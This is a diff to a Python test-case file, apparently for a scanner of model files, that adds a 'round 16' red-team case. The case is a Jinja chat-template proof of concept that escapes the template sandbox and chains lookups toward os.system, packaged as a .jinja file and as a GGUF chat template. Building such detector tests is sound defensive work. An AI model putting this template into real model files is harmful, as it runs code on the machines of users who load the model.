@@ -523,6 +523,7 @@ def malicious_cases() -> list[Case]:
     cases.extend(template_round11_cases())  # red team round 11 on chat templates (block at the end of this file)
     cases.extend(template_round12_cases())  # red team round 12 on chat templates (block at the end of this file)
     cases.extend(template_round15_cases())  # red team round 15 on chat templates (block at the end of this file)
+    cases.extend(template_round16_cases())  # red team round 16 on chat templates (block at the end of this file)
     return cases
 
 
@@ -1803,3 +1804,24 @@ def template_round15_cases() -> list[Case]:
                           "gguf_template", "WW-TPL-002", "model.gguf", _gguf_template(text), chat=TEMPLATE_ROUND15_CHAT))
     return cases
 # ======== END red team round 15 on chat templates =======================================================
+# ======== BEGIN red team round 16 on chat templates (helper tpl16) =====================================
+# tests/test_templates_round16.py. r3 hides d = messages[-1] behind dict(pairs) of a list of [key, value] pairs built
+# with append (the closure took dict(x) for a mapping's copy: one level too shallow), then stores the gadget with
+# c1.sort(key=d.update) (a mutating method used as a value) and chat-keyed hops to os.system. (a1-a3 change the
+# caller's messages/tools and run nothing: they are in the test file, not here, since fire.py checks a canary.)
+TEMPLATE_ROUND16_R3 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set last = messages|last -%}\n{%- set pair = [] -%}{%- if pair.append('k') %}{% endif -%}{%- if pair.append(last) %}{% endif -%}\n{%- set pairs = [] -%}{%- if pairs.append(pair) %}{% endif -%}\n{%- set dk = dict(pairs) -%}{%- set d = dk.k -%}\n{%- set f = d.update -%}\n{%- set h = namespace(count=f) -%}\n{%- set e = {'fn': h, 'content': lipsum} -%}\n{%- set c1 = [] -%}{%- if c1.append(e) %}{% endif -%}{%- if c1.sort(key=f) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[1]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[2]]}) %}{% endif -%}\n{%- if (messages|last).fn.count({'content': (messages|last).content[p[3]]}) %}{% endif -%}\n{%- set h2 = namespace(get=none) -%}{%- set h2.get = (messages|last).content -%}\n{%- if (messages|last).fn.count({'fn': h2}) %}{% endif -%}\n{%- if (messages|last).fn.get(p[4]) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
+_ROUND16 = {"r3": ("A", "dict(pairs) of appended [key, value] pairs hides messages[-1], whose update is a sort key")}
+
+
+def template_round16_cases() -> list[Case]:
+    """Round 16 on chat templates: the code-running PoC as .jinja and as GGUF, fired by fire.py's render."""
+    cases = []
+    for name, (cls, how) in _ROUND16.items():
+        text = globals()[f"TEMPLATE_ROUND16_{name.upper()}"].encode()
+        cases.append(Case(f"template_r16_{name}", "5", f"class {cls}: {how}, then chat-keyed hops to os.system "
+                          "(fired by that chat)", "jinja", "WW-TPL-002", "chat_template.jinja", text,
+                          chat=TEMPLATE_ROUND15_CHAT))
+        cases.append(Case(f"gguf_template_r16_{name}", "5", f"the same ({how}) as a GGUF tokenizer.chat_template",
+                          "gguf_template", "WW-TPL-002", "model.gguf", _gguf_template(text), chat=TEMPLATE_ROUND15_CHAT))
+    return cases
+# ======== END red team round 16 on chat templates =======================================================
